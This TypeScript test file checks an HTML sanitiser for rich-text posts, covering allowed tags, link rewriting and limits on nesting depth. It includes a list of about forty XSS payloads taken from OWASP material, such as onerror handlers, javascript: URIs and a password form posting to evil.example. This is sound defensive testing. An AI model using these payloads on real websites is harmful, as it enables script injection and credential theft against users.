import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { RICH_TEXT_TAGS, richTextLink } from '../../../shared/rules/rich-text.ts';
import { randomRuns } from '../../../shared/testing/random-runs.ts';
import { cleanRichText, forParser } from './clean-rich-text.ts';

describe('ANN-06 allowed markup', () => {
  test.each([
    ['<p>Hola <strong>a</strong> <em>b</em> <u>c</u> <s>d</s></p>', null],
    ['<h2>T</h2><h3>t</h3><ul><li>1</li></ul><ol><li>2</li></ol><blockquote>q</blockquote>', null],
    [
      '<b>a</b><i>b</i><del>c</del><div>d</div><h1>e</h1>',
      '<strong>a</strong><em>b</em><s>c</s><p>d</p><h2>e</h2>',
    ],
    ['una línea\notra & <más>', 'una línea\notra &amp;'],
    ['Gol de <Boca>', 'Gol de'],
    ['1 < 2 y 3 > 2', '1 &lt; 2 y 3 &gt; 2'],
    ['a<br>b', 'a<br />b'],
    ['¡Golazo! ⚽️🏆 ção', null],
  ])('ANN-06 %s', (given, expected) => {
    expect(cleanRichText(given)).toBe(expected ?? given);
  });

  test('ANN-06 a link keeps its address; target and rel are ours', () => {
    const away = '<a href="https://x.example/a?b=1&amp;c" rel="noopener noreferrer" target="_blank">x</a>';
    expect(
      cleanRichText(
        '<a class="c" onclick="x()" target="_top" rel="opener" HREF=" https://x.example/a?b=1&c ">x</a>',
      ),
    ).toBe(away);
    expect(cleanRichText('<a href="/jugar" target="_blank" style="x">Jugar</a>')).toBe(
      '<a href="/jugar">Jugar</a>',
    );
  });
});

describe('ANN-06 forbidden links', () => {
  const away = (words: string) =>
    `<a href="https://b.example/" rel="noopener noreferrer" target="_blank">${words}</a>`;
  test.each([
    ['<a href="www.x">a</a> y <a href="https://b.example/">b</a> fin', `a y ${away('b')} fin`],
    ['<a href="https://b.example/">b</a> y <a href="www.x">a</a> fin', `${away('b')} y a fin`],
    ['<a href="www.x">a <a href="https://b.example/">b</a> c</a> fin', `a ${away('b')} c fin`],
    ['<a href="https://b.example/">b <a href="www.x">a</a> c</a> fin', `${away('b ')}a c fin`],
    ['<a href="https://b.example/">b <u><a href="/jugar">a</a> c</u></a> fin', `${away('b <u>a c</u>')} fin`],
    ['<a href="www.x"><b>a</b></a><b>b</b>', '<strong>a</strong><strong>b</strong>'],
    ['<a name="x">a</a> y <a>b</a>', 'a y b'],
    ['<p><a href="www.x"><p>a</p></a></p>', '<p></p><p>a</p><p></p>'],
  ])('ANN-06 %s', (given, expected) => {
    expect(cleanRichText(given)).toBe(expected);
    expect(cleanRichText(expected)).toBe(expected);
  });
});

/** From the OWASP cheat sheet and from known bypasses of other HTML cleaners. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://x.example" onmouseover="alert(1)">x</a>',
  `<a href='https://x.example/"onmouseover="alert(1)'>x</a>`,
  '<p style="background:url(javascript:alert(1))" onclick=alert(1) id=x class=y>x</p>',
  '<p/onclick=alert(1)>x',
  '<style>@import "https://evil.example"</style>',
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<form action="https://evil.example"><input name=password><button>Entrar</button></form>',
  '<video><source onerror=alert(1)></video><details open ontoggle=alert(1)>x</details>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '\u0000<script>alert(1)</script>&#0;&#7;',
];

/** Returns the elements and attributes of the cleaned text that are not allowed. */
function strangeIn(html: string): string[] {
  return [...html.matchAll(/<[^>]*>?/g)].flatMap(([tag]) => {
    const [, name = '', attributes = ''] = /^<\/?([a-z0-9]*)([^>]*)>$/.exec(tag) ?? [];
    if (!(RICH_TEXT_TAGS as readonly string[]).includes(name)) return [tag];
    if (name !== 'a') return attributes === '' || attributes === ' /' ? [] : [tag];
    if (attributes === '') return tag === '</a>' ? [] : [tag];
    const [, href] =
      /^ href="([^"<>]*)"(?: rel="noopener noreferrer" target="_blank")?$/.exec(attributes) ?? [];
    return href !== undefined && richTextLink(href.replaceAll('&amp;', '&')) ? [] : [tag];
  });
}

/** Returns misnested tags, links inside links, and unclosed tags. */
function unbalancedIn(html: string): string[] {
  const open: string[] = [];
  const wrong: string[] = [];
  for (const [tag, slash, name = ''] of html.matchAll(/<(\/?)([a-z0-9]+)[^>]*>/g)) {
    if (name === 'br') continue;
    if (slash ? open.pop() !== name : name === 'a' && open.includes('a')) wrong.push(tag);
    if (!slash) open.push(name);
  }
  return [...wrong, ...open];
}

describe('ANN-06 forbidden markup', () => {
  test.each(ATTACKS)('ANN-06 %s', (attack) => {
    const clean = cleanRichText(`<p>antes</p>${attack}`);
    expect(strangeIn(clean)).toEqual([]);
    expect(clean).toContain('<p>antes</p>');
    expect(clean).not.toMatch(/[\u0000-\u0008\u007f]/);
    expect(cleanRichText(clean)).toBe(clean);
  });

  test('ANN-06 property: cleaned markup has only allowed elements, and cleaning it again changes nothing', () => {
    const piece = fc.constantFrom(
      ...['<', '>', '</', '/>', '"', "'", '`', '=', ' ', '\n', '&', ';', '<!--', '-->', '&lt;', '&#60;'],
      ...[
        'script',
        'svg',
        'math',
        'style',
        'a',
        'p',
        'b',
        'ul',
        'li',
        'br',
        'textarea',
        'noscript',
        'template',
        'font',
      ],
      ...['href', 'onclick', 'src', 'style', 'https://x.example', 'javascript:', 'alert(1)', 'x'],
      ...['<p>', '</p>', '<a href="', '">', '<script>', '</script>', '<svg>', '<style>', '</style>'],
      ...[
        '<a href="www.x">',
        '<a href="https://x.example">',
        '<a href="/jugar">',
        '</a>',
        '<font>',
        '</font>',
        '<b>',
        '</b>',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const clean = cleanRichText(pieces.join(''));
        expect(strangeIn(clean)).toEqual([]);
        expect(unbalancedIn(clean)).toEqual([]);
        expect(cleanRichText(clean)).toBe(clean);
      }),
      randomRuns('clean-rich-text', { short: 2_000, proof: 50_000 }),
    );
  });

  test('ANN-06 a thousand nested elements are cleaned', () => {
    const deep = cleanRichText(`${'<ul><li>'.repeat(1000)}x${'</li></ul>'.repeat(1000)}`);
    expect(deep.length).toBeLessThan(200);
    expect(cleanRichText('<'.repeat(20_000)).length).toBeLessThan(100_001);
  });

  test('ANN-06 markup nested deeper than 2,000 elements is refused before the rest is parsed', () => {
    for (const tag of ['<b>', '<svg>', '<ul><li>'])
      expect(() => cleanRichText(tag.repeat(2_001))).toThrow(
        expect.objectContaining({ code: 'invalid_input', fields: [{ field: 'content', code: 'invalid' }] }),
      );
    expect(cleanRichText('<b>x</b>'.repeat(15_000))).toBe('<strong>x</strong>'.repeat(15_000));
  });
});

test('ANN-06 the parser gets no bracket that is text, so it takes no step for each of them', () => {
  for (const piece of ['<', '&lt;', '< ', '<1', '<<1'])
    expect(forParser(piece.repeat(50_000))).not.toMatch(/[<&]/);
  expect(forParser('<p>1 < 2 &lt;b&gt;</p>')).toBe('<p>1 \uFDD0 2 \uFDD0b&gt;</p>');
  expect(cleanRichText('<'.repeat(131_072))).toBe('&lt;'.repeat(131_072));
  expect(cleanRichText('\uFDD0b>x')).toBe('b&gt;x');
});
